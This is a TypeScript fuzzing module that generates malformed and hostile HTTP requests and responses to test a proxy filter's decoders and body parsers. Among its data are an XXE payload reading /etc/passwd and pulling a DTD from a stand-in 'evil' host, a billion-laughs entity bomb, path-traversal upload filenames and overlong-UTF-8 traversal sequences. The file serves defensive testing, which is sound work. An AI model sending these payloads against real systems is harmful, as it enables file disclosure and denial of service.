// Generators of malformed and hostile transactions, one family per entry of GENERATORS. Every one is a pure function
// of its Rand, so a case is rebuilt from its seed. Each aims at one parser or limit of the filter (URI and
// argument decoding, header handling, the urlencoded / JSON / multipart / XML body processors, the response body
// path) with the inputs real clients and attackers send: broken encodings, invalid UTF-8, NUL bytes, sizes beyond
// every limit, and bodies cut into proxy_on_*_body calls at the worst places (down to one byte per call).
import { Rand } from "./rand";
import type { Bytes, FuzzResponse, FuzzTx } from "./stream-run";

const L = (s: string): Bytes => Buffer.from(s, "latin1");

/** Byte sequences that break decoders: bad %-escapes, %u forms, overlong UTF-8, surrogates, NUL, stray bytes. */
export const ENCODING_ATOMS = [
  "%", "%%", "%z", "%zz", "%2", "%2g", "%g2", "%u", "%u1", "%u12", "%u123", "%u12345", "%uD800", "%uDFFF", "%udc00",
  "%uFFFF", "%U0041", "%c0%af", "%c0%ae%c0%ae/", "%e0%80%af", "%f0%80%80%af", "%ed%a0%80", "%ed%bf%bf", "%f4%90%80%80",
  "%fe", "%ff", "%00", "%0", "%%35%36", "%252e", "%2e%2e%2f", "\x00", "\xc0\xaf", "\xc0\x80", "\xed\xa0\x80",
  "\xed\xb0\x80", "\xf8\x88\x80\x80\x80", "\xfc\x80\x80\x80\x80\x80", "\xff\xfe", "\xef\xbb\xbf", "\x80", "\xc3",
  "\xe2\x82", "\xf0\x9f\x98", "&#", "&#x;", "&#xD800;", "&#0;", "&#99999999999;", "\\u", "\\uD800", "\\x", "\\",
  "+", "%2B", "%25", "&", "=", "==", "&&", ";", "\t", " ", "\x7f", "\x1b", "\r", "\n",
];

const WORDS = ["id", "name", "q", "page", "user", "file", "data", "x", "a", "b", "select", "admin", "json", "xml", "path"];

/** A mixture of words, decoder-breaking atoms and raw bytes, about `n` bytes long. */
function junk(r: Rand, n: number): string {
  let s = "";
  while (s.length < n) {
    const k = r.int(0, 9);
    if (k < 4) s += r.pick(WORDS);
    else if (k < 8) s += r.pick(ENCODING_ATOMS);
    else s += r.bytes(r.int(1, 4)).toString("latin1");
  }
  return s;
}

/** `junk` without the bytes that end a header line or a URI (the host passes them, but keep most cases parseable). */
function junkNoCrlf(r: Rand, n: number): string {
  return junk(r, n).replace(/[\r\n]/g, "%0a");
}

export const BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";

function baseHeaders(r: Rand): Array<[Bytes, Bytes]> {
  const h: Array<[string, string]> = [["Host", r.chance(0.9) ? "example.com" : junkNoCrlf(r, r.int(0, 40))]];
  if (r.chance(0.9)) h.push(["User-Agent", BROWSER_UA]);
  if (r.chance(0.9)) h.push(["Accept", r.pick(["*/*", "text/html,application/xhtml+xml", "application/json"])]);
  // Mixed-case and duplicated names: the filter must keep both and match names case-insensitively.
  if (r.chance(0.2)) h.push(["aCCePT-LanguaGE", "en-US,en;q=0.5"], ["ACCEPT-LANGUAGE", "de"]);
  if (r.chance(0.1)) h.push(["Host", "second.example"]);
  return h.map(([k, v]) => [L(k), L(v)]);
}

export const ODD_CONTENT_TYPES = [
  "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-8",
  'application/x-www-form-urlencoded;;;charset="x', "APPLICATION/JSON", "application/json; charset=utf-7", "application/json;",
  "application/vnd.api+json", "text/json", "application/xml", "text/xml; charset=\x00", "application/soap+xml; charset=utf-16",
  "multipart/form-data", "multipart/form-data; boundary=", 'multipart/form-data; boundary=""', "multipart/form-data; boundary=a; boundary=b",
  "multipart/form-data; BOUNDARY=xyz", 'multipart/form-data;boundary="quoted; weird"', "multipart/mixed; boundary=x",
  "Multipart/Form-Data; boundary=x", " multipart/form-data ; boundary = x ", "multipart/form-data; boundary=" + "x".repeat(3000),
  "text/plain", "", "\x00", "a/b/c;=;=", "application/octet-stream", "*/*", "application/x-www-form-urlencoded\x00multipart/form-data; boundary=x",
  "application/json\xff\xfe", "text/html; charset=\xc0\xaf", "multipart/form-data; boundary=--\x00--",
];

// ------------------------------------------------------------------------------------------- body cutting

/** Where to cut a body into host callbacks: not at all, every byte, at random, or around the bytes parsers care about. */
export function cutsFor(r: Rand, body: Bytes): number[] {
  const n = body.length;
  if (n < 2) return [];
  const plan = r.int(0, 9);
  if (plan <= 1) return [];
  if (plan <= 4) {
    // One byte per proxy_on_*_body call (bounded so a case stays fast: the rest comes in one piece).
    const upto = Math.min(n - 1, 3000);
    return Array.from({ length: upto }, (_, i) => i + 1);
  }
  if (plan <= 6) {
    const k = r.int(1, Math.min(200, n - 1));
    return [...new Set(Array.from({ length: k }, () => r.int(1, n - 1)))].sort((a, b) => a - b);
  }
  // Awkward points: before and after every %, \, quote, CR, LF, '-', '<', '&', '=', ':' and inside multi-byte UTF-8.
  const cuts: number[] = [];
  for (let i = 1; i < n && cuts.length < 3000; i++) {
    const c = body[i]!;
    const p = body[i - 1]!;
    if (c === 0x25 || c === 0x5c || c === 0x22 || c === 0x0d || c === 0x0a || c === 0x2d || c === 0x3c || c === 0x26 || c === 0x3d || c === 0x3a) cuts.push(i);
    else if (p === 0x25 || p === 0x0d || (p >= 0xc0 && c >= 0x80 && c < 0xc0)) cuts.push(i);
  }
  return cuts;
}

// ------------------------------------------------------------------------------------------- families

function get(r: Rand, kind: string, uri: string, extra: Array<[string, string]> = []): FuzzTx {
  return { kind, method: r.pick(["GET", "GET", "HEAD", "DELETE", "OPTIONS"]), uri: L(uri), headers: [...baseHeaders(r), ...extra.map(([k, v]) => [L(k), L(v)] as [Bytes, Bytes])], body: Buffer.alloc(0), cuts: [] };
}

function post(r: Rand, kind: string, contentType: string | null, body: Bytes, extra: Array<[string, string]> = []): FuzzTx {
  const headers = baseHeaders(r);
  if (contentType !== null) headers.push([L(r.pick(["Content-Type", "content-type", "CONTENT-TYPE"])), L(contentType)]);
  if (r.chance(0.8)) headers.push([L("Content-Length"), L(r.chance(0.9) ? String(body.length) : r.pick(["-1", "abc", "99999999999999999999", "0", ""]))]);
  for (const [k, v] of extra) headers.push([L(k), L(v)]);
  const tx: FuzzTx = { kind, method: r.pick(["POST", "POST", "PUT", "PATCH"]), uri: L(r.pick(["/", "/api/v1/items", "/upload.php?x=1", "/form"])), headers, body, cuts: cutsFor(r, body) };
  if (r.chance(0.1)) tx.trailers = [[L("x-checksum"), L(junkNoCrlf(r, 20))]];
  return tx;
}

function queryOf(r: Rand, nArgs: number, atomSize: number): string {
  const parts: string[] = [];
  for (let i = 0; i < nArgs; i++) {
    const name = r.chance(0.1) ? "" : junkNoCrlf(r, r.int(1, atomSize)).replace(/[#]/g, "");
    const value = junkNoCrlf(r, r.int(0, atomSize)).replace(/[#]/g, "");
    parts.push(r.chance(0.1) ? name : `${name}=${value}`);
  }
  return parts.join(r.chance(0.9) ? "&" : r.pick([";", "&&", "&=&"]));
}

const uriBadEncoding = (r: Rand): FuzzTx => {
  const path = "/" + Array.from({ length: r.int(1, 5) }, () => junkNoCrlf(r, r.int(1, 30)).replace(/[?#]/g, "")).join("/");
  const cookie = Array.from({ length: r.int(1, 8) }, () => `${junkNoCrlf(r, 8).replace(/[;=]/g, "")}=${junkNoCrlf(r, 20).replace(/;/g, "")}`).join("; ");
  return get(r, "uri/bad-encoding", `${path}?${queryOf(r, r.int(1, 20), 30)}`, r.chance(0.5) ? [["Cookie", cookie]] : []);
};

/**
 * Envoy refuses request heads over max_request_headers_kb (60 KiB by default) with 431 before any filter runs, so
 * the request line and headers of a case stay under it: longer ones cannot reach the filter in a deployment.
 */
export const MAX_HEAD_BYTES = 60 * 1024;

/** A length between `lo` and the head limit, spread over the range logarithmically (short ones are cheaper). */
function headLength(r: Rand, lo: number): number {
  return Math.floor(lo * Math.exp(r.float() * Math.log((MAX_HEAD_BYTES - 1024) / lo)));
}

const uriLong = (r: Rand): FuzzTx => {
  const n = headLength(r, 4_000);
  const v = r.pick(["path", "value", "name", "junk"]);
  const filler = r.chance(0.5) ? "a".repeat(n) : junkNoCrlf(r, n).replace(/[?#]/g, "");
  const uri = v === "path" ? `/${filler}` : v === "value" ? `/?q=${filler}` : v === "name" ? `/?${filler}=1` : `/${filler.slice(0, n >> 1)}?${filler.slice(n >> 1)}`;
  return get(r, `uri/long-${v}`, uri);
};

const uriManyArgs = (r: Rand): FuzzTx => {
  const n = r.int(300, 5_000);
  const style = r.pick(["distinct", "same-name", "empty", "no-equals", "junk"]);
  const parts = Array.from({ length: n }, (_, i) =>
    style === "distinct" ? `a${i}=v${i}` : style === "same-name" ? `id[]=${i}` : style === "empty" ? "" : style === "no-equals" ? `k${i}` : queryOf(r, 1, 4),
  );
  return get(r, `uri/many-args-${style}`, `/search?${parts.join("&")}`);
};

const headersHuge = (r: Rand): FuzzTx => {
  const n = headLength(r, 4_000);
  const which = r.pick(["value", "name", "cookie", "cookies", "user-agent"]);
  const filler = r.chance(0.5) ? "b".repeat(n) : junkNoCrlf(r, n);
  const h: Array<[string, string]> =
    which === "value" ? [["X-Big", filler]]
    : which === "name" ? [[`X-${"n".repeat(n)}`, "1"]]
    : which === "cookie" ? [["Cookie", `session=${filler}`]]
    : which === "cookies" ? [["Cookie", Array.from({ length: Math.floor(n / 10) }, (_, i) => `c${i}=${i}`).join("; ")]]
    : [["User-Agent", filler]];
  return get(r, `headers/huge-${which}`, "/", h);
};

// Envoy's default max_headers_count is 100; the filter is also run behind proxies configured far higher.
const headersMany = (r: Rand): FuzzTx => {
  const n = r.int(100, 1_500);
  const h: Array<[string, string]> = [];
  for (let i = 0; i < n; i++) {
    const k = r.int(0, 4);
    if (k === 0) h.push([`X-H${i}`, `v${i}`]);
    else if (k === 1) h.push([r.pick(["x-dup", "X-Dup", "X-DUP"]), String(i)]);
    else if (k === 2) h.push(["Cookie", `c${i}=${i}`]);
    else if (k === 3) h.push([junkNoCrlf(r, r.int(1, 12)).replace(/:/g, "") || "x", junkNoCrlf(r, r.int(0, 40))]);
    else h.push([`X-Forwarded-For`, `10.0.${i & 255}.${(i >> 8) & 255}`]);
  }
  return get(r, "headers/many", "/", h);
};

/** Invalid UTF-8 and NUL bytes in the URI, header names and values, cookie names and values. */
const binaryEverywhere = (r: Rand): FuzzTx => {
  const bin = (n: number) => Array.from({ length: n }, () => r.pick(["\x00", "\xff", "\xc0\xaf", "\xed\xa0\x80", "\x80", "\xfe", "a", "\x01"])).join("");
  const h: Array<[string, string]> = [
    [`X-${bin(r.int(1, 6))}`, bin(r.int(0, 30))],
    ["Cookie", `${bin(4)}=${bin(10)}; ok=${bin(3)}`],
    [bin(r.int(1, 4)), "v"],
    ["Referer", `http://${bin(5)}/`],
    ["Content-Type", bin(r.int(0, 10))],
  ];
  const body = r.chance(0.5) ? L(`${bin(5)}=${bin(20)}&a=${bin(8)}`) : Buffer.alloc(0);
  const tx = body.length ? post(r, "binary/everywhere", "application/x-www-form-urlencoded", body, h) : get(r, "binary/everywhere", "/", h);
  if (r.chance(0.3)) tx.method = r.pick(["get", "PROPFIND", "M-SEARCH", "", "G\x00T", "\xff\xfe", "X".repeat(r.int(1, 5_000))]);
  tx.uri = L(`/${bin(r.int(0, 20))}?${bin(r.int(0, 10))}=${bin(r.int(0, 10))}`);
  return tx;
};

const urlencodedBody = (r: Rand): FuzzTx => {
  const many = r.chance(0.3);
  const body = L(many ? Array.from({ length: r.int(900, 5_000) }, (_, i) => `p${i}=${i}`).join("&") : queryOf(r, r.int(1, 60), 60));
  return post(r, many ? "body/urlencoded-many" : "body/urlencoded", r.pick(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-8", "APPLICATION/X-WWW-FORM-URLENCODED"]), body);
};

const jsonDeep = (r: Rand): FuzzTx => {
  const depth = r.size(30_000);
  const obj = r.chance(0.5);
  const open = obj ? '{"a":' : "[";
  const close = obj ? "}" : "]";
  const closed = r.chance(0.6);
  const body = L(open.repeat(depth) + (r.chance(0.5) ? "1" : '"x"') + (closed ? close.repeat(depth) : close.repeat(r.int(0, depth))));
  return post(r, `body/json-deep-${obj ? "object" : "array"}${closed ? "" : "-unclosed"}`, "application/json", body);
};

const JSON_BREAKERS = [
  '"\\u12"', '"\\uD800"', '"\\uDC00\\uD800"', '"\\x41"', '"\\', '"unterminated', "1e999999", "-1e-999999", "123456789012345678901234567890123456789",
  "-0", "01", "1.", ".5", "NaN", "Infinity", "tru", "nul", "[,]", "{,}", '{"a"}', '{"a":}', '{:1}', "[1,,2]", "\x00", "\xff\xfe",
  '"\x01\x02"', '"\xc0\xaf"', '"\xed\xa0\x80"', "\xef\xbb\xbf{}", "}{", "]]]", '{"a":1}{"b":2}', "/* c */", '{"__proto__":{"x":1}}',
];

const jsonBroken = (r: Rand): FuzzTx => {
  const valid = JSON.stringify({ user: "alice", items: Array.from({ length: r.int(1, 40) }, (_, i) => ({ id: i, name: `n${i}`, tags: ["a", "b"] })), n: 1.5 });
  const k = r.int(0, 3);
  let body: string;
  if (k === 0) body = valid.slice(0, r.int(0, valid.length - 1)); // truncated
  else if (k === 1) {
    body = valid;
    for (let i = r.int(1, 5); i > 0; i--) {
      const at = r.int(0, body.length);
      body = body.slice(0, at) + r.pick(JSON_BREAKERS) + body.slice(at);
    }
  } else if (k === 2) body = `{${Array.from({ length: r.int(1, 3_000) }, (_, i) => `"k${i % 50}":${r.pick(JSON_BREAKERS.concat(["1", '"v"', "null", "[]", "{}"]))}`).join(",")}}`;
  else body = `[${Array.from({ length: r.int(1, 20_000) }, () => r.pick(["1", "1e308", "-1e400", "99999999999999999999999", '""', "true"])).join(",")}]`;
  return post(r, `body/json-broken-${k}`, r.pick(["application/json", "application/json; charset=utf-8", "application/vnd.api+json", "APPLICATION/JSON"]), L(body));
};

const multipartBroken = (r: Rand): FuzzTx => {
  const boundary = r.pick(["----WebKitFormBoundary7MA4YWxkTrZu0gW", "x", "AaB03x", "--", "a b", "\"quoted\"", "b".repeat(200), "\xff\x00"]);
  const variant = r.pick([
    "ok", "missing-final", "duplicate-boundaries", "lf-only", "folding", "no-disposition", "huge-part-header", "many-part-headers",
    "unterminated", "nul-in-headers", "other-boundary", "preamble-epilogue", "many-parts", "filename-odd", "nested", "empty", "cr-only",
    "boundary-prefix-in-data",
  ] as const);
  const eol = variant === "lf-only" ? "\n" : variant === "cr-only" ? "\r" : "\r\n";
  const B = variant === "other-boundary" ? "not-the-boundary" : boundary;
  const part = (name: string, value: string, extraHeaders: string[] = []) => {
    let disp = `Content-Disposition: form-data; name="${name}"`;
    if (variant === "folding") disp = `Content-Disposition: form-data;${eol} name="${name}"`;
    const headers = variant === "no-disposition" ? [`Content-Type: text/plain`] : [disp, ...extraHeaders];
    if (variant === "huge-part-header") headers.push(`X-Pad: ${"p".repeat(r.int(5_000, 150_000))}`);
    if (variant === "many-part-headers") for (let i = r.int(100, 2_000); i > 0; i--) headers.push(`X-P${i}: ${i}`);
    if (variant === "nul-in-headers") headers.push(`X-\x00: a\x00b`, `Content-Type: text/\x00plain`);
    return `--${B}${eol}${headers.join(eol)}${eol}${eol}${value}${eol}`;
  };
  let body = "";
  if (variant === "preamble-epilogue") body += `preamble ${junk(r, 50)}${eol}`;
  const nParts = variant === "many-parts" ? r.int(500, 3_000) : r.int(1, 5);
  for (let i = 0; i < nParts; i++) {
    if (variant === "filename-odd" && i === 0) {
      body += part("file", junk(r, r.int(0, 200)), [
        `Content-Disposition: form-data; name="f"; ${r.pick(['filename="../../etc/passwd"', 'filename="unterminated', "filename*=UTF-8''%ff%fe", 'filename=""', "filename=a;filename=b", 'filename="\x00.php"'])}`,
        "Content-Type: application/octet-stream",
      ]);
    } else if (variant === "nested" && i === 0) {
      body += part("n", `--inner${eol}Content-Disposition: form-data; name="i"${eol}${eol}v${eol}--inner--`, ["Content-Type: multipart/mixed; boundary=inner"]);
    } else {
      body += part(`f${i}`, variant === "boundary-prefix-in-data" ? `data --${B}x ${eol}--${B.slice(0, -1)}` : junk(r, r.int(0, 100)));
    }
    if (variant === "duplicate-boundaries") body += `--${B}${eol}`;
  }
  if (variant === "unterminated") body = body.slice(0, r.int(0, body.length));
  else if (variant !== "missing-final") body += `--${B}--${eol}`;
  if (variant === "preamble-epilogue") body += `epilogue ${junk(r, 50)}`;
  if (variant === "empty") body = "";
  const ct = r.chance(0.85) ? `multipart/form-data; boundary=${boundary}` : r.pick(ODD_CONTENT_TYPES.filter((c) => /multipart/i.test(c)));
  return post(r, `body/multipart-${variant}`, ct, L(body));
};

const xmlBroken = (r: Rand): FuzzTx => {
  const variant = r.pick(["unclosed", "deep", "deep-unclosed", "entities", "xxe", "billion-laughs", "cdata", "comment", "pi", "attributes", "namespaces", "binary", "utf16-decl", "mismatched"] as const);
  let body: string;
  const d = r.size(20_000);
  switch (variant) {
    case "unclosed": body = `<?xml version="1.0"?><a><b>text<c attr="1">`; break;
    case "deep": body = "<a>".repeat(d) + "x" + "</a>".repeat(d); break;
    case "deep-unclosed": body = "<a x='1'>".repeat(d); break;
    case "entities": body = `<a>&lt;&gt;&amp;&#0;&#xD800;&#x110000;&#99999999999;&undefined;&#;&#x;&amp</a>`; break;
    case "xxe": body = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil/x.dtd">%p;]><r>&xxe;</r>`; break;
    case "billion-laughs": body = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join("")}]><l>&j;</l>`; break;
    case "cdata": body = `<a><![CDATA[ unterminated ${junk(r, 50)}`; break;
    case "comment": body = `<a><!-- unterminated -- -- ${junk(r, 50)}</a>`; break;
    case "pi": body = `<?xml version="1.0" encoding="bogus"?><?pi ${junk(r, 30)}<a/>`; break;
    case "attributes": body = `<a x=1 y="2 z='3' ${"k".repeat(r.int(1, 5_000))}="v" x="dup">t</a>`; break;
    case "namespaces": body = `<a xmlns="urn:x" xmlns:p="urn:p" xmlns:=""><p:b p:c="1" q:d="2"/></a>`; break;
    case "binary": body = `<a>\x00\xff\xfe${junk(r, 80)}</a>`; break;
    case "utf16-decl": body = `\xff\xfe<\x00a\x00>\x00<?xml version="1.0" encoding="UTF-16"?>`; break;
    case "mismatched": body = `<a><b></a></b>${junk(r, 30)}</c>`; break;
  }
  return post(r, `body/xml-${variant}`, r.pick(["application/xml", "text/xml", "application/soap+xml", "text/xml; charset=\x00", "application/xml;;"]), L(body));
};

const binaryBody = (r: Rand): FuzzTx => post(r, "body/binary", r.pick(ODD_CONTENT_TYPES), r.bytes(r.size(200_000)));

const oddContentType = (r: Rand): FuzzTx => {
  const body = r.pick([() => L("a=1&b=2"), () => L('{"a":[1,2,{"b":null}]}'), () => L("<a><b>1</b></a>"), () => L(`--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n`), () => r.bytes(r.int(1, 500))])();
  const tx = post(r, "content-type/odd", r.pick(ODD_CONTENT_TYPES), body);
  if (r.chance(0.3)) tx.headers.push([L("Content-Type"), L(r.pick(ODD_CONTENT_TYPES))]); // a second, different Content-Type
  return tx;
};

const RESPONSE_TYPES = [
  "text/html", "text/html; charset=utf-8", "TEXT/HTML", "application/json", "application/json; charset=\xff", "text/xml", "text/plain;;;",
  "image/png", "application/octet-stream", "", "text/html\x00", "multipart/byteranges; boundary=x", "text/event-stream", "application/javascript",
];

function oddResponse(r: Rand): FuzzResponse {
  const ct = r.pick(RESPONSE_TYPES);
  const kind = r.int(0, 5);
  const body =
    kind === 0 ? L(`<html><body>${junk(r, r.int(0, 2_000))}</body></html>`)
    : kind === 1 ? L(`{"a":${"[".repeat(r.size(10_000))}`)
    : kind === 2 ? r.bytes(r.size(600_000))
    : kind === 3 ? L(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`)
    : kind === 4 ? L("") : L(`Index of /\n${"root:x:0:0:root:/root:/bin/bash\n".repeat(r.int(1, 50))}`);
  const headers: Array<[Bytes, Bytes]> = [];
  if (ct !== "" || r.chance(0.5)) headers.push([L(r.pick(["content-type", "Content-Type"])), L(ct)]);
  if (r.chance(0.5)) headers.push([L("content-length"), L(r.chance(0.8) ? String(body.length) : "12345678901234567890")]);
  if (r.chance(0.3)) for (let i = r.int(1, 200); i > 0; i--) headers.push([L("set-cookie"), L(`s${i}=${junkNoCrlf(r, 10)}`)]);
  if (r.chance(0.2)) headers.push([L("x-\xff\x00"), L("\xc0\xaf")]);
  const resp: FuzzResponse = { status: r.pick([200, 200, 201, 206, 301, 400, 404, 500, 502]), headers, body, cuts: cutsFor(r, body) };
  if (r.chance(0.15)) resp.trailers = [[L("grpc-status"), L(String(r.int(0, 16)))], [L("x-ÿ"), L(junkNoCrlf(r, 10))]];
  return resp;
}

const responseOdd = (r: Rand): FuzzTx => {
  const tx = get(r, "response/odd", r.pick(["/", "/index.html", "/api/items?id=1", "/download"]));
  tx.response = oddResponse(r);
  return tx;
};

export type Generator = (r: Rand) => FuzzTx;

export const GENERATORS: Record<string, Generator> = {
  "uri-bad-encoding": uriBadEncoding,
  "uri-long": uriLong,
  "uri-many-args": uriManyArgs,
  "headers-huge": headersHuge,
  "headers-many": headersMany,
  "binary-everywhere": binaryEverywhere,
  "body-urlencoded": urlencodedBody,
  "body-json-deep": jsonDeep,
  "body-json-broken": jsonBroken,
  "body-multipart": multipartBroken,
  "body-xml": xmlBroken,
  "body-binary": binaryBody,
  "content-type-odd": oddContentType,
  "response-odd": responseOdd,
};

/** A plain response for a request case (most cases also exercise phases 3 and 4). */
export function plainResponse(r: Rand): FuzzResponse {
  const body = L(`<html><body>ok ${r.int(0, 1e6)}</body></html>`);
  return { status: 200, headers: [[L("content-type"), L("text/html")], [L("content-length"), L(String(body.length))]], body, cuts: cutsFor(r, body) };
}

/** Case `seed` of family `name`: the transaction, with a response unless the family made its own (or 1 in 5 none). */
export function generate(name: string, seed: number): FuzzTx {
  const r = new Rand(seed);
  const tx = GENERATORS[name]!(r);
  if (!tx.response && r.chance(0.8)) tx.response = plainResponse(r);
  // 1 in 20: the client goes away part way, before the stream's end (proxy_on_log runs on a half-seen transaction).
  if (r.chance(0.05)) tx.abortAfter = r.int(1, 2 + tx.cuts.length + (tx.response ? 2 + tx.response.cuts.length : 0));
  tx.kind = `${tx.kind} (seed ${seed})`;
  return tx;
}
